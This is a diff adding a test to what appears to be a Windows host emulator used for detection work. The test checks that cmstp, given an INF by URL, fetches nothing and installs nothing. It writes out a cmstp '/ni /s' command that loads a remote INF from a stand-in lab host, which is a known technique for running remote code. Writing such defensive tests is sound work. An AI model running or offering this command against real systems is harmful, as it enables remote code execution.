@@ -342,3 +342,23 @@ test('arguments split like the C runtime: quoted paths with spaces stay whole', 
     '/au',
   ]);
 });
+
+test('#17 cmstp given an INF by URL starts and does nothing more (the one public sample): no fetch, no child, no install', async (t) => {
+  const { host, events, session, stage } = setup();
+  stage(singleUser);
+  const before = events.length;
+
+  const { process, exitCode } = await host.runCmstp(
+    session,
+    `/ni /s http://payload.lab.test:8080/${marker}/${marker}.inf`,
+  );
+
+  const after = events.slice(before).map((e) => [e.behaviour, e.fields.EventID]);
+  t.deepEqual(after, [
+    ['cmstp-exec', 1],
+    ['cmstp-exec', 4688],
+  ]);
+  t.is(exitCode, 0x80070002);
+  t.true(process.commandLine.endsWith(`/ni /s http://payload.lab.test:8080/${marker}/${marker}.inf`));
+  t.false(host.drive.exists(markerPath));
+});
